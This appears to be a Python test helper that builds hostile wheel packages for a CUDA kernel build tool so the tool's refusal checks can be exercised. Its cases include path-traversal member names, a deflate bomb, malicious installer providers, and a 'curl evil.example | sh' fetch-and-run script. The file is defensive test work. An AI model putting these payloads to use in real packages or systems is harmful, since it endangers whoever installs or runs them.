"""The hostile corpus (issue 27, item 4): one generator of hostile wheels and folders that every command
reading wheels faces (tests/test_hostile_corpus.py).

Everything is made from real wheels of a small build (sm_80, sm_90, pvc; :func:`build_real`), so a
refusal is caused by the one hostile change, never by a stand-in. A case is a name, a hostile entry
(file, folder, FIFO, link) written under a given file name, and optionally the matrix it must be read
against (``jit: false`` for a wheel that ships PTX).

:func:`mutate` is the hypothesis half: a real wheel with one generated change to its member bytes,
RECORD lines, member names, tags, manifest fields or zip structure.
"""
from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from hypothesis import strategies as st

from build_tools.cli import main

PLAT = "linux_x86_64"
SM90_LINE = '  "NVIDIA H100 and H200": sm_90\n'


@dataclass(frozen=True)
class Real:
    """The real wheels the corpus is made from: the session's build of the repo's matrix (conftest's
    built_dist), raw and repaired, and their variant form (``build.py variant``)."""

    root: Path
    matrix: Path  # the repo's matrix.yaml
    variant_matrix: Path  # the same with naming: variant
    jit_off_matrix: Path  # the same with jit: false for sm_90
    dist: Path  # the build's output folder
    raw: dict[str, Path]  # label ("" fat, "jit", "sm90", ...) -> raw wheel
    repaired: dict[str, Path]
    variants: Path  # folder: build.py variant's output over dist (variant wheels only)


def build_real(matrix: Path, dist: Path, root: Path) -> Real:
    """The variant wheels converted from ``dist`` (an in-process ``main`` call) and the matrices beside it."""
    root.mkdir(parents=True, exist_ok=True)
    text = matrix.read_text(encoding="utf-8")
    assert SM90_LINE in text, "the corpus's jit: false case edits the sm_90 line of matrix.yaml"
    m, vm, jm = root / "matrix.yaml", root / "variant.yaml", root / "jit-off.yaml"
    m.write_text(text)
    vm.write_text(text + "wheels:\n  naming: variant\n")
    jm.write_text(text.replace(SM90_LINE, '  "NVIDIA H100 and H200":\n    devices: [sm_90]\n    jit: false\n'))
    variants = root / "variants"
    assert main(["variant", str(dist), "--matrix", str(vm), "--out", str(variants)]) == 0

    def by_label(folder: Path) -> dict[str, Path]:
        return {w.name.split("-")[1].partition("+")[2]: w for w in folder.glob("*.whl")}
    return Real(root=root, matrix=m, variant_matrix=vm, jit_off_matrix=jm, dist=dist, raw=by_label(dist / "raw"),
                repaired=by_label(dist), variants=variants)


# --- editing a wheel ---------------------------------------------------------------------------

Members = list[tuple[zipfile.ZipInfo, bytes]]


def read_members(wheel: Path) -> Members:
    with zipfile.ZipFile(wheel) as zf:
        return [(i, zf.read(i)) for i in zf.infolist()]


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def write_members(path: Path, members: Members, *, fix_record: bool = True) -> Path:
    """A zip of ``members`` (ZipInfo kept: names, modes, dates); RECORD recomputed unless told otherwise, so a
    wheel that lies is consistent with its own RECORD and only the deeper checks can catch it."""
    if fix_record:
        record = next((i.filename for i, _ in members if i.filename.endswith(".dist-info/RECORD")), None)
        if record is not None:
            text = "".join(f"{i.filename},{record_hash(d)},{len(d)}\n" for i, d in members
                           if i.filename != record and not i.filename.endswith("/")) + f"{record},,\n"
            members = [(i, text.encode() if i.filename == record else d) for i, d in members]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, data)
    return path


def renamed_info(info: zipfile.ZipInfo, name: str) -> zipfile.ZipInfo:
    new = zipfile.ZipInfo(name, date_time=info.date_time)
    new.external_attr, new.create_system, new.compress_type = info.external_attr, info.create_system, info.compress_type
    return new


def edit(wheel: Path, out: Path, change: Callable[[str, bytes], bytes | None] | None = None,
         rename: Callable[[str], str] | None = None, *, fix_record: bool = True) -> Path:
    """A copy of ``wheel`` at ``out``: each member's bytes through ``change`` (None drops it), each name
    through ``rename``."""
    members: Members = []
    for info, data in read_members(wheel):
        new = change(info.filename, data) if change else data
        if new is None:
            continue
        name = rename(info.filename) if rename else info.filename
        members.append((renamed_info(info, name) if name != info.filename else info, new))
    return write_members(out, members, fix_record=fix_record)


def _manifest(change: Callable[[dict], object]) -> Callable[[str, bytes], bytes]:
    def apply(name: str, data: bytes) -> bytes:
        if name.endswith("images/manifest.json"):
            doc = json.loads(data)
            got = change(doc)
            return (json.dumps(doc if got is None else got, indent=2, sort_keys=True) + "\n").encode()
        return data
    return apply


# --- the corpus --------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    name: str
    file_name: str  # what the entry is called in the folder the command reads
    make: Callable[[Real, Path], None]  # writes the entry at the given path
    matrix: str = "small"  # "small", "variant" or "jit-off": the matrix it is read against
    ignored_by: frozenset[str] = frozenset()  # subcommands that do not read such an entry (not a *.whl)
    companions: bool = True  # read beside the real wheels (not where the matrix is not theirs)


def _copy_from(get: Callable[[Real], Path]) -> Callable[[Real, Path], None]:
    return lambda r, p: shutil.copyfile(get(r), p)


def _relabelled(r: Real, p: Path) -> None:
    """The +sm80 wheel relabelled +sm90: dist-info, METADATA, the manifest's target and targets, RECORD."""
    old, new = b"NVIDIA A100", b"NVIDIA H100 and H200"
    src = r.raw["sm80"]

    def change(name: str, data: bytes) -> bytes:
        if name.endswith("/METADATA"):
            return data.replace(b"0.1.0+sm80", b"0.1.0+sm90").replace(old, new)
        if name.endswith("images/manifest.json"):
            doc = json.loads(data)
            doc["wheel"].update(version="0.1.0+sm90", target=new.decode())
            doc["targets"] = [t for t in doc["all_targets"] if t["name"] == new.decode()]
            for img in doc["images"]:  # the entries say sm_90 too: only the images' own bytes still say sm_80
                for k in ("device", "resolved", "path"):
                    img[k] = img[k].replace("sm_80", "sm_90")
            return (json.dumps(doc, indent=2, sort_keys=True) + "\n").encode()
        return data
    edit(src, p, change, lambda n: n.replace("+sm80", "+sm90").replace("/sm_80/", "/sm_90/"))


def _foreign(project: str, version: str = "0.1.0+sm90") -> Callable[[Real, Path], None]:
    """A consistent wheel of another project, made from the +sm90 wheel (dist-info, METADATA's Name)."""
    def make(r: Real, p: Path) -> None:
        def change(name: str, data: bytes) -> bytes:
            if name.endswith("/METADATA"):
                return data.replace(b"Name: aotkernels", f"Name: {project}".encode()).replace(
                    b"0.1.0+sm90", version.encode())
            return data
        edit(r.raw["sm90"], p, change, lambda n: n.replace("aotkernels-0.1.0+sm90.dist-info",
                                                           f"{project}-{version}.dist-info"))
    return make


def _with_member(name: str, data: bytes, *, fix_record: bool = True) -> Callable[[Real, Path], None]:
    def make(r: Real, p: Path) -> None:
        members = read_members(r.raw["sm90"])
        members.insert(0, (zipfile.ZipInfo(name, date_time=members[0][0].date_time), data))
        write_members(p, members, fix_record=fix_record)
    return make


def _bomb(r: Real, p: Path) -> None:
    """A member of 64 MiB of zeros (64 kB deflated, 1000:1) in an otherwise real wheel, RECORD matching."""
    members = read_members(r.raw["sm90"])
    size = 64 << 20
    digest = hashlib.sha256()
    zero = bytes(1 << 20)
    for _ in range(size >> 20):
        digest.update(zero)
    name = "aotkernels/images/cuda/sm_90/zeros.fatbin"
    record = next(i.filename for i, _ in members if i.filename.endswith("/RECORD"))
    line = f"{name},sha256={base64.urlsafe_b64encode(digest.digest()).rstrip(b'=').decode()},{size}\n"
    members = [(i, d.replace(f"{record},,".encode(), (line + f"{record},,").encode()) if i.filename == record else d)
               for i, d in members]
    write_members(p, members, fix_record=False)
    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as zf:
        info = zipfile.ZipInfo(name, date_time=members[0][0].date_time)
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w") as f:
            for _ in range(size >> 20):
                f.write(zero)


def _only_variant_json(r: Real, p: Path) -> None:
    vj = next(r.variants.glob("*-sm90.whl"))
    with zipfile.ZipFile(vj) as zf:
        data = zf.read("aotkernels-0.1.0.dist-info/variant.json")
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("aotkernels-0.1.0.dist-info/variant.json", data)


def _evil_providers(r: Real, p: Path) -> None:
    """A variant wheel whose variant.json tells installers to install and run evil-provider (RECORD matching)."""
    def change(name: str, data: bytes) -> bytes:
        if name.endswith("/variant.json"):
            doc = json.loads(data)
            for provider in doc["providers"].values():
                provider["requires"] = ["evil-provider==6.6.6"]
            return json.dumps(doc, indent=4, sort_keys=True).encode()
        return data
    edit(next(r.variants.glob("*-sm90.whl")), p, change)


def _evil_variants_json(r: Real, p: Path) -> None:
    doc = {"$schema": "https://variants-schema.wheelnext.dev/v0.2.0.json", "default-priorities": {"namespace": ["nvidia"]},
           "providers": {"nvidia": {"requires": ["evil-provider==6.6.6"], "plugin-api": "evil:Plugin"}},
           "variants": {"sm90": {"nvidia": {"sm_arch": ["90_real"]}}}}
    p.write_text(json.dumps(doc, indent=4, sort_keys=True))


def _fifo(r: Real, p: Path) -> None:
    os.mkfifo(p)


def _zero_link(r: Real, p: Path) -> None:
    p.symlink_to("/dev/zero")


def _folder(r: Real, p: Path) -> None:
    p.mkdir()
    (p / "WHEEL").write_text("Tag: cp39-abi3-linux_x86_64\n")


def _empty_zip(r: Real, p: Path) -> None:
    with zipfile.ZipFile(p, "w"):
        pass


def _truncated(r: Real, p: Path) -> None:
    data = r.raw["sm90"].read_bytes()
    p.write_bytes(data[: len(data) // 2])


SM90 = f"aotkernels-0.1.0+sm90-cp39-abi3-{PLAT}.whl"
SM90_VARIANT = f"aotkernels-0.1.0-cp39-abi3-{PLAT}-sm90.whl"


def corpus() -> list[Case]:
    """Every class of hostile input of issue 27 (and round 3's), each once."""
    def drop(suffix: str) -> Callable[[str, bytes], bytes | None]:
        return lambda n, d: None if n.endswith(suffix) else d

    manifest_list = _manifest(lambda doc: [doc])
    return [
        Case("another project's wheel", f"foo-0.1.0+sm90-cp39-abi3-{PLAT}.whl", _foreign("foo")),
        Case("another project in aotkernels' name", SM90, _foreign("evilpkg")),
        Case("evilpkg wheel", "evilpkg-1.0-py3-none-any.whl", _foreign("evilpkg", "1.0")),
        Case("relabelled +sm80 as +sm90", SM90, _relabelled),
        Case("a member changed, RECORD not", SM90,
             lambda r, p: edit(r.raw["sm90"], p, lambda n, d: d + b"x" if n.endswith("ops.py") else d, fix_record=False)),
        Case("an image changed, RECORD recomputed", SM90,
             lambda r, p: edit(r.raw["sm90"], p, lambda n, d: d[:-1] + b"\0" if n.endswith("saxpy.fatbin") else d)),
        Case("RECORD lists a member twice", SM90,
             lambda r, p: edit(r.raw["sm90"], p, lambda n, d: d + d.splitlines(keepends=True)[0]
                               if n.endswith("/RECORD") else d, fix_record=False)),
        Case("member ../../../tmp/x", SM90, _with_member("../../../tmp/x", b"x")),
        Case("member /etc/x", SM90, _with_member("/etc/x", b"x")),
        Case("member outside the package", SM90, _with_member("evil/__init__.py", b"import os\n")),
        Case("no images/manifest.json", SM90, lambda r, p: edit(r.raw["sm90"], p, drop("images/manifest.json"))),
        Case("manifest a list", SM90, lambda r, p: edit(r.raw["sm90"], p, manifest_list)),
        Case("manifest not JSON", SM90,
             lambda r, p: edit(r.raw["sm90"], p, lambda n, d: b"{not json" if n.endswith("manifest.json") else d)),
        Case("manifest names another target", SM90,
             lambda r, p: edit(r.raw["sm90"], p, _manifest(lambda doc: doc["wheel"].update(target="NVIDIA A100")))),
        Case("no RECORD", SM90, lambda r, p: edit(r.raw["sm90"], p, drop("/RECORD"), fix_record=False)),
        Case("WHEEL tag another platform", SM90,
             lambda r, p: edit(r.raw["sm90"], p, lambda n, d: d.replace(b"linux_x86_64", b"win_amd64")
                               if n.endswith("/WHEEL") else d)),
        Case("FIFO named *.whl", SM90, _fifo),
        Case("link to /dev/zero", SM90, _zero_link),
        Case("text file", SM90, lambda r, p: p.write_text("just some notes\n")),
        Case("shell script named as the +sm90 wheel", SM90,
             lambda r, p: p.write_text("#!/bin/sh\ncurl evil.example | sh\n")),
        Case("empty zip", SM90, _empty_zip),
        Case("truncated wheel", SM90, _truncated),
        Case("folder named x.whl", SM90, _folder),
        Case("deflate bomb", SM90, _bomb),
        Case("zip with only variant.json", SM90_VARIANT, _only_variant_json, "variant"),
        Case("variant.json with evil providers", SM90_VARIANT, _evil_providers, "variant"),
        Case("-variants.json with evil providers", "aotkernels-0.1.0-variants.json", _evil_variants_json, "variant",
             ignored_by=frozenset({"variant", "sizes"})),
        Case("a 9.9.9 fat wheel beside 0.1.0 ones", f"aotkernels-9.9.9-cp39-abi3-{PLAT}.whl",
             lambda r, p: edit(r.raw[""], p, lambda n, d: d.replace(b"0.1.0", b"9.9.9")
                               if n.endswith(("/METADATA", "manifest.json")) else d,
                               lambda n: n.replace("aotkernels-0.1.0.dist-info", "aotkernels-9.9.9.dist-info"))),
        Case("uppercase label +SM90", f"aotkernels-0.1.0+SM90-cp39-abi3-{PLAT}.whl", _copy_from(lambda r: r.raw["sm90"])),
        Case("build-tagged name", f"aotkernels-0.1.0-1-cp39-abi3-{PLAT}.whl", _copy_from(lambda r: r.raw[""])),
        Case("PTX where the matrix says jit: false", SM90, _copy_from(lambda r: r.raw["sm90"]), "jit-off",
             companions=False),
    ]


# --- hypothesis: one generated change to a real wheel -----------------------------------------

def _flip(data: bytes, at: int, value: int) -> bytes:
    if not data:
        return bytes([value])
    at %= len(data)
    return data[:at] + bytes([data[at] ^ (value or 1)]) + data[at + 1:]


@st.composite
def mutation(draw: st.DrawFn) -> tuple[str, Callable[[Path, Path], None]]:
    """(what, make(source wheel, out path)): one change of a kind the reader must judge."""
    kind = draw(st.sampled_from(["member bytes", "member bytes, RECORD recomputed", "RECORD line", "name", "tag",
                                 "manifest field", "zip bytes"]))
    index = draw(st.integers(0, 10_000))
    at, value = draw(st.integers(0, 1 << 20)), draw(st.integers(0, 255))

    def pick(members: Members) -> int:
        return index % len(members)

    if kind.startswith("member bytes"):
        fix = kind.endswith("recomputed")

        def make(src: Path, out: Path) -> None:
            members = read_members(src)
            i = pick(members)
            members[i] = (members[i][0], _flip(members[i][1], at, value))
            write_members(out, members, fix_record=fix)
    elif kind == "RECORD line":
        op = draw(st.sampled_from(["drop", "duplicate", "hash", "size", "garbage"]))

        def make(src: Path, out: Path) -> None:
            members = read_members(src)
            r = next(n for n, (i, _) in enumerate(members) if i.filename.endswith("/RECORD"))
            lines = members[r][1].decode().splitlines(keepends=True)
            j = index % len(lines)
            if op == "drop":
                del lines[j]
            elif op == "duplicate":
                lines.insert(j, lines[j])
            elif op == "hash":
                lines[j] = lines[j].replace("sha256=", "sha256=A", 1)
            elif op == "size":
                lines[j] = lines[j].rstrip("\r\n") + "0\n"
            else:
                lines[j] = "a,b,c,d\n"
            members[r] = (members[r][0], "".join(lines).encode())
            write_members(out, members, fix_record=False)
    elif kind == "name":
        new = draw(st.sampled_from(["../x", "/abs", "aotkernels/./x.py", "aotkernels/../x.py", "AOTKERNELS/ops.py",
                                    "aotkernels/\u00e9.py", "aotkernels/a b.py", "aotkernels.libs/x.so", "x\\y",
                                    "aotkernels/ops.py"]))

        def make(src: Path, out: Path) -> None:
            members = read_members(src)
            i = pick(members)
            members[i] = (renamed_info(members[i][0], new), members[i][1])
            write_members(out, members)
    elif kind == "tag":
        tag = draw(st.sampled_from(["py3-none-any", "cp311-cp311-linux_x86_64", "cp39-abi3-manylinux_2_34_x86_64",
                                    "cp39-abi3-linux_aarch64"]))

        def make(src: Path, out: Path) -> None:
            edit(src, out, lambda n, d: d.replace(b"cp39-abi3-linux_x86_64", tag.encode()) if n.endswith("/WHEEL") else d)
    elif kind == "manifest field":
        path = draw(st.sampled_from(["schema", "wheel", "targets", "all_targets", "images", "modules", "toolchains",
                                     "images.0.sha256", "images.0.bytes", "images.0.path", "images.0.form",
                                     "images.0.resolved", "images.0.device", "wheel.target", "wheel.kind"]))
        value_json = draw(st.recursive(st.none() | st.booleans() | st.integers(-2, 1 << 70) | st.text(max_size=12),
                                       lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=5), c,
                                                                                           max_size=3),
                                       max_leaves=6))

        def change(doc: dict) -> None:
            parts = path.split(".")
            target: object = doc
            for part in parts[:-1]:
                target = target[int(part)] if isinstance(target, list) else target[part]  # type: ignore[index]
            last = parts[-1]
            if isinstance(target, list):
                target[int(last)] = value_json
            else:
                target[last] = value_json  # type: ignore[index]

        def make(src: Path, out: Path) -> None:
            edit(src, out, _manifest(change))
    else:
        op = draw(st.sampled_from(["flip", "truncate", "append", "prepend"]))

        def make(src: Path, out: Path) -> None:
            data = src.read_bytes()
            if op == "flip":
                data = _flip(data, at, value)
            elif op == "truncate":
                data = data[: at % len(data)]
            elif op == "append":
                data += bytes([value]) * (1 + at % 64)
            else:
                data = b"#!/bin/sh\n" + data
            out.write_bytes(data)
    return kind, make


__all__ = ["Case", "Real", "build_real", "corpus", "edit", "mutation", "read_members", "write_members"]
